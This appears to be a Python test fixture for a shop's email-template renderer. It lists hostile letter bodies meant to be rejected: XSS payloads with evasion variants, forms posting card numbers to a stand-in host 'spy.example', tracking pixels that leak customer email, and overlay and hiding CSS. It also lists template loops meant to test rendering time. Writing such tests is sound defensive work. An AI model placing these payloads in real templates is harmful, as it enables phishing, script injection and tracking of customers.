"""Letters of shops' own that would run, fetch, ask, cover, hide or tell: none of them may be taken."""

from tests.rendering.broken import body

LOOP = "{% for item in order.items %}"
PIXEL = "https://spy.example/p.gif"

RUNNING = {
    "a script": body("<script>alert(1)</script>"),
    "a script from outside": body('<script src="https://spy.example/x.js"></script>'),
    "a script in capitals": body("<ScRiPt>alert(1)</sCrIpT>"),
    "a script in two halves": body("<scr{% if order %}ipt>alert(1)</scr{% endif %}ipt>"),
    "a script as a fact": body("<{{ 'script' }}>alert(1)</{{ 'script' }}>"),
    "a handler": body('<p onclick="alert(1)">Order</p>'),
    "a handler without quotes": body("<p onmouseover=alert(1)>Order</p>"),
    "a handler of an image": body(f'<img src="{PIXEL}" width="600" onerror="alert(1)">'),
    "a handler behind a slash": body(f'<img/onerror="alert(1)"/src="{PIXEL}" width="600">'),
    "a drawing": body('<svg onload="alert(1)"></svg>'),
    "a formula": body('<math><mi href="javascript:alert(1)">x</mi></math>'),
    "a link that runs": body('<a href="javascript:alert(1)">Order</a>'),
    "a link that runs, in capitals": body('<a href="JaVaScRiPt:alert(1)">Order</a>'),
    "a link that runs, spelled in entities": body('<a href="&#106;avascript&colon;alert(1)">Order</a>'),
    "a link that runs, over two lines": body('<a href="java\nscript:alert(1)">Order</a>'),
    "a link that runs, as a fact": body("<a href=\"{{ 'javascript' ~ ':alert(1)' }}\">Order</a>"),
    "a link that is a page": body('<a href="data:text/html;base64,PHNjcmlwdD4=">Order</a>'),
    "a link of Visual Basic": body('<a href="vbscript:msgbox(1)">Order</a>'),
    "a link with nothing before it": body('<a href="//spy.example/">Order</a>'),
    "a link with a name before it": body('<a href="https://bank.example@spy.example/">Your bank</a>'),
    "a page in the page": body('<iframe src="https://spy.example/"></iframe>'),
    "an object": body('<object data="https://spy.example/x.swf"></object>'),
    "an embedding": body('<embed src="https://spy.example/x.swf">'),
    "a template": body("<template><script>alert(1)</script></template>"),
    "a style that runs": body('<p style="width:expression(alert(1))">Order</p>'),
    "a style that binds": body('<p style="-moz-binding:url(https://spy.example/x.xml)">Order</p>'),
}
ASKING = {
    "a form": body('<form action="https://spy.example/"><input name="card"></form>'),
    "a field alone": body('<input name="card" placeholder="Card number">'),
    "a button that sends": body('<button formaction="https://spy.example/">Pay</button>'),
    "a choice": body("<select><option>Pay</option></select>"),
    "a field for text": body("<textarea>Card number</textarea>"),
}
REWRITING = {
    "another base": body('<base href="https://spy.example/">'),
    "another page at once": body('<meta http-equiv="refresh" content="0;url=https://spy.example/">'),
    "a style sheet": body("<style>.edge{display:none}</style>"),
    "a style sheet from outside": body('<link rel="stylesheet" href="https://spy.example/x.css">'),
    "a remark": body("<!-- nothing -->"),
    "a remark for one program": body("<!--[if mso]><p>Order</p><![endif]-->"),
    "a remark that swallows the rest": body("<!-- later"),
    "another document": body("</body></html><html><body>Order"),
    "a title": body("<title>Order</title>"),
    "text without markup": body("<plaintext>"),
    "an instruction": body("<?php echo 1 ?>"),
    "a section of characters": body("<![CDATA[<p>Order</p>]]>"),
    "the end of the frame": body('<span id="end"></span>'),
}
COVERING = {
    "a curtain over all": body('<div style="position:fixed;top:0;left:0;width:100%;height:100%">Order</div>'),
    "a curtain that is spelled": body('<div style="posi\\tion:fixed">Order</div>'),
    "a curtain behind a remark": body('<div style="position/**/:absolute">Order</div>'),
    "above the rest": body('<div style="z-index:99">Order</div>'),
    "pulled over what follows": body('<div style="margin-bottom:-400px">Order</div>'),
    "pulled over, in short": body('<div style="margin:0 0 -400px 0">Order</div>'),
    "moved down": body('<div style="transform:translateY(300px)">Order</div>'),
    "moved down in its line": body('<span style="vertical-align:-300px">Order</span>'),
    "floating": body('<div style="float:left">Order</div>'),
    "as large as a house": body('<p style="font-size:900px">Order</p>'),
    "larger each time": body('<div style="font-size:300%">' * 9 + "Order" + "</div>" * 9),
    "headings in headings": body("<h3><div>" * 9 + "Order" + "</div></h3>" * 9),
    "lines in one another": body('<p style="line-height:0">Order</p>'),
    "a long way down": body('<div style="padding-top:20000px">Order</div>'),
    "a high cell": body('<table height="20000"><tr><td>Order</td></tr></table>'),
    "out of the card and in again": body('</td></tr></table><div><table><tr><td style="display:none">'),
    "the frame within a box that hides": body('</td></tr><tr style="display:none"><td>'),
    "a cell beside the card": body("<td>Order</td>"),
    "a row of the frame": body("<tr><td>Order</td></tr>"),
    "a box left open": body("<div>Order"),
    "a box closed too often": body("Order</div>"),
}
HIDING = {
    "not shown": body('<p style="display:none">Order</p>'),
    "not seen": body('<p style="visibility:hidden">Order</p>'),
    "see-through": body('<p style="opacity:0">Order</p>'),
    "nothing high": body('<p style="max-height:0;overflow:hidden">Order</p>'),
    "too small to read": body('<p style="font-size:1px">Order</p>'),
    "hidden from one program": body('<p style="mso-hide:all">Order</p>'),
    "hidden by an attribute": body("<p hidden>Order</p>"),
    "important": body('<p style="color:red!important">Order</p>'),
}
TELLING = {
    "a pixel": body(f'<img src="{PIXEL}" width="1" height="1">'),
    "a pixel of nothing": body(f'<img src="{PIXEL}" width="0" height="0">'),
    "a pixel that is one only high": body(f'<img src="{PIXEL}" width="600" height="1">'),
    "a pixel by its style": body(f'<img src="{PIXEL}" width="600" style="width:1px;height:1px">'),
    "an image that does not say its size": body(f'<img src="{PIXEL}">'),
    "an image that tells who reads": body(f'<img src="{PIXEL}?{{{{ customer.email }}}}" width="600">'),
    "an image of the customer": body('<img src="{{ customer.email }}" width="600">'),
    "an image behind its title": body(
        LOOP + '<img title="src={{ item.image_url }}" src="{{ customer.email }}" width="99">{% endfor %}'
    ),
    "an image in the clear": body('<img src="http://spy.example/p.gif" width="600">'),
    "an image that is drawn": body('<img src="data:image/svg+xml;base64,PHN2Zz4=" width="600">'),
    "several images of one": body(f'<img src="{PIXEL}" srcset="{PIXEL} 2x" width="600">'),
    "a ground": body(f'<p style="background:url({PIXEL})">Order</p>'),
    "a ground of a table": body(f'<table background="{PIXEL}"><tr><td>Order</td></tr></table>'),
    "a sign before a list": body(f'<ul style="list-style-image:url({PIXEL})"><li>Order</li></ul>'),
    "a face from outside": body(f"<p style=\"src:url('{PIXEL}')\">Order</p>"),
    "a film": body(f'<video poster="{PIXEL}"></video>'),
    "a sound": body(f'<audio src="{PIXEL}"></audio>'),
}
HOSTILE_LETTERS = {**RUNNING, **ASKING, **REWRITING, **COVERING, **HIDING, **TELLING}

HEAVY = {
    "every thing compared": body(LOOP + "{% if item.name == 'x' %}{% endif %}" * 60 + "{% endfor %}"),
    "every thing in capitals": body(
        LOOP + "{% if item.name | upper | lower | title %}{% endif %}" * 9 + "{% endfor %}"
    ),
    "every option": body(
        LOOP + "{% for name, value in item.options %}{% if name == value %}{% endif %}{% endfor %}{% endfor %}"
    ),
    "every letter of every option": body(
        LOOP + "{% for name, value in item.options %}{% for c in value %}{% if c %}{% endif %}"
        "{% endfor %}{% endfor %}{% endfor %}"
    ),
    "every thing said": body(LOOP + "{% set x %}{{ item.name }}{% endset %}" * 40 + "{% endfor %}"),
    "every sum": body(LOOP + "{% if item.amount | money(order.currency) %}{% endif %}" * 13 + "{% endfor %}"),
    "every phone": body(LOOP + "{% if customer.phone | phone %}{% endif %}" * 18 + "{% endfor %}"),
    "every rest": body(LOOP + "{% if order.items[1:] %}{% endif %}" * 64 + "{% endfor %}"),
    "all in a line, often": body("{% if in_a_line(order.items) %}{% endif %}" * 200),
    "all in all": body(LOOP + "{% if item in order.items %}{% endif %}" * 9 + "{% endfor %}"),
    "all spelled out": body("{% if order.items | upper %}{% endif %}" * 18),
    "sums of lists": body("{% if order.items" + " + order.items" * 30 + " %}{% endif %}"),
    "facts of nothing": body(LOOP + "{% if facts(('a', ''), ('b', '')) %}{% endif %}" * 3 + "{% endfor %}"),
    "tables": body("{{ order_items() }}" * 4),
    "a plain list": body(LOOP + "<p>{{ item.sku }}: {{ item.amount | money(order.currency) }}</p>{% endfor %}"),
    "two thousand expressions": body("{{ order.number }}" * 600),
}
"""Letters that make as much work as they can; what is taken of them must not take long."""
